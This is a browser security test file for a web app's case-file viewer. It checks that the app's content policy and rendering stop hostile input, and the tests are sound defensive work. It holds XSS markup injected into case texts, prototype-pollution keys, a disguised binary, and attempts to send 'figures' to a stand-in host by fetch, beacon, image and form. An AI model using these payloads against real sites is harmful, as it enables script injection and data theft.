// What a hostile link, file or host could try, each tried here (docs/threat-model.md).
import { createServer } from "node:http";
import { readFile } from "node:fs/promises";
import { expect, open, test } from "./fixtures.mjs";
import { button, CASE, damaged, dialog, expectGolden } from "./page.mjs";

const FIFTEEN = `${CASE}&in-county-journeys=15`;
const MARKUP = '<img src=x onerror="window.hit=1"><script>window.hit=1</script><iframe srcdoc="<script>parent.hit=1</script>"></iframe>';
const hit = (page) => page.evaluate(() => window.hit);
// Elements that the app itself never makes.
const injected = (page) => page.locator("#app :is(script, iframe, object, embed), #app img:not([src^='data:image/png'])");

async function openCase(page, name, content) {
  await page.getByRole("button", { name: /^Case: / }).click();
  const window = dialog(page, "Cases");
  await window.getByLabel("Case file (.json)").setInputFiles({ name, mimeType: "", buffer: Buffer.from(content) });
  return window;
}

// Every text of a case, but ids and what must be of a certain form.
function everyText(value, change, key = "") {
  if (Array.isArray(value)) return value.map((item) => everyText(item, change, key));
  if (value !== null && typeof value === "object") {
    return Object.fromEntries(Object.entries(value).map(([name, item]) => [name, everyText(item, change, name)]));
  }
  const words = ["label", "name", "help", "title", "subtitle", "authority", "text", "note", "quote", "wording", "description"];
  return typeof value === "string" && words.includes(key) ? change(value) : value;
}

test("markup in every text of a case file is text on every screen", async ({ page }) => {
  test.slow();
  const cases = new URL("../www/cases/cambridgeshire-2019.json", import.meta.url);
  const hostile = everyText(JSON.parse(await readFile(cases, "utf8")), (text) => `${MARKUP}${text}`.slice(0, 200));
  hostile.id = "hostile";
  await open(page);
  await openCase(page, "hostile.json", JSON.stringify(hostile));
  await expect.poll(() => new URL(page.url()).hash).toContain("case=hostile");
  await expect(page.locator("#app")).toContainText('<img src=x onerror="window.hit=1">');
  for (const screen of ["Stress test", "Compare", "Sources and checks", "Panel view"]) {
    await page.getByRole("link", { name: screen, exact: true }).click();
    await expect(page.getByRole("main")).toContainText("<img src=x");
    await expect(injected(page)).toHaveCount(0);
    if (screen === "Panel view") await page.goBack();
  }
  for (const screen of ["Report", "Edit case", "Explore"]) {
    await page.getByRole("link", { name: screen, exact: true }).click();
    await expect(page.getByRole("link", { name: screen, exact: true })).toHaveAttribute("aria-current", "page");
    await expect(page.getByRole("main")).toBeVisible();
    await expect(injected(page)).toHaveCount(0);
  }
  expect(await hit(page)).toBeUndefined();
});

test("keys that every object has are nothing special, in a link and in a case file", async ({ page }) => {
  const keys = "__proto__=1&constructor=1&prototype=1&toString=1";
  await open(page, `#${FIFTEEN}&${keys}`);
  for (const key of ["__proto__", "constructor", "toString"]) await expect(damaged(page)).toContainText(key);
  await expectGolden(page, FIFTEEN);
  const cases = await readFile(new URL("../www/cases/cambridgeshire-2019.json", import.meta.url), "utf8");
  await openCase(page, "proto.json", cases.replace("{", '{"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}},').replace('"cambridgeshire-2019"', '"polluted"'));
  await expect(page.getByRole("button", { name: /^Case: / })).toBeVisible();
  expect(await page.evaluate(() => [{}.polluted, Object.prototype.polluted])).toEqual([undefined, undefined]);
});

test("a file of another kind under a harmless name is refused, and one too large is not read", async ({ page }) => {
  await open(page);
  const window = await openCase(page, "case.json", "MZ\u0000\u0001 this is no JSON");
  await expect(window.getByRole("status")).toContainText("The file is not JSON");
  await window.getByLabel("Case file (.json)").setInputFiles({ name: "big.json", mimeType: "", buffer: Buffer.alloc(6_000_000, 32) });
  await expect(window.getByRole("status")).toContainText("more than 5 MB");
  await button(window, "Close").click();
  await expectGolden(page, CASE);
});

test("what would run a text is refused by the browser", async ({ page, problems }) => {
  await open(page);
  const refused = await page.evaluate(async () => {
    const tried = {};
    const attempt = (name, what) => {
      try {
        what();
        tried[name] = "allowed";
      } catch (error) {
        tried[name] = error.name;
      }
    };
    // As a script of the page would, not as the test's own tools do, which the policy lets through.
    await new Promise((done) => setTimeout(done));
    attempt("markup", () => (document.createElement("div").innerHTML = "<b>x</b>"));
    attempt("a worker of a text", () => new Worker("data:text/javascript,1"));
    attempt("a worker that is not the build's", () => new Worker("./boot.js"));
    attempt("a script by its address", () => (document.createElement("script").src = "./host.js"));
    attempt("a policy of one's own", () => trustedTypes.createPolicy("mine", { createHTML: (text) => text }));
    const script = document.createElement("script");
    script.append("window.hit = 1");
    attempt("a script by its text", () => document.body.append(script));
    const handled = document.createElement("i");
    document.body.append(handled);
    attempt("a handler as an attribute", () => handled.setAttribute("onclick", "window.hit = 1"));
    handled.click();
    await new Promise((done) => setTimeout(done, 100));
    tried.hit = window.hit;
    return tried;
  });
  const { hit: ran, "a script by its text": byText, ...rest } = refused;
  expect(ran).toBeUndefined();
  expect(byText).toBeDefined();
  expect(Object.values(rest)).toEqual(Object.keys(rest).map(() => "TypeError"));
  problems.length = 0; // the refusals
});

test("nothing can be fetched from elsewhere or sent there", async ({ page, problems }) => {
  await open(page);
  const refused = await page.evaluate(async () => {
    const elsewhere = "http://127.0.0.1:1/take";
    const failed = (promise) => promise.then(() => "went", (error) => error.name);
    const violations = new Set();
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => violations.add(effectiveDirective));
    await failed(fetch(elsewhere, { method: "POST", body: "figures", mode: "no-cors" }));
    navigator.sendBeacon(elsewhere, "figures");
    document.body.append(Object.assign(new Image(), { src: `${elsewhere}?figures` }));
    document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: elsewhere }));
    const form = Object.assign(document.createElement("form"), { action: elsewhere, method: "post" });
    document.body.append(form);
    form.submit();
    const base = Object.assign(document.createElement("base"), { href: elsewhere });
    document.head.append(base);
    const frame = document.createElement("iframe");
    frame.setAttribute("src", elsewhere);
    document.body.append(frame);
    await new Promise((done) => setTimeout(done, 300));
    return [...violations].sort();
  });
  for (const directive of ["connect-src", "img-src", "style-src-elem", "form-action", "base-uri", "frame-src"]) {
    expect(refused).toContain(directive);
  }
  // The policy refused before anything went out: all that is told are its own refusals.
  expect(problems.filter((problem) => /ERR_CONNECTION_REFUSED/.test(problem))).toEqual([]);
  problems.length = 0;
});

test("another site cannot show the app in a frame", async ({ page, baseURL, problems }) => {
  const site = createServer((_, response) => {
    response.writeHead(200, { "Content-Type": "text/html" }).end(`<iframe title="taken" src="${baseURL}"></iframe>`);
  });
  await new Promise((ready) => site.listen(0, "127.0.0.1", ready));
  await page.goto(`http://127.0.0.1:${site.address().port}/`);
  await expect.poll(() => problems.some((problem) => /frame-ancestors/.test(problem))).toBe(true);
  expect(await page.frameLocator("iframe").locator("#app").count()).toBe(0);
  site.close();
  problems.length = 0;
});
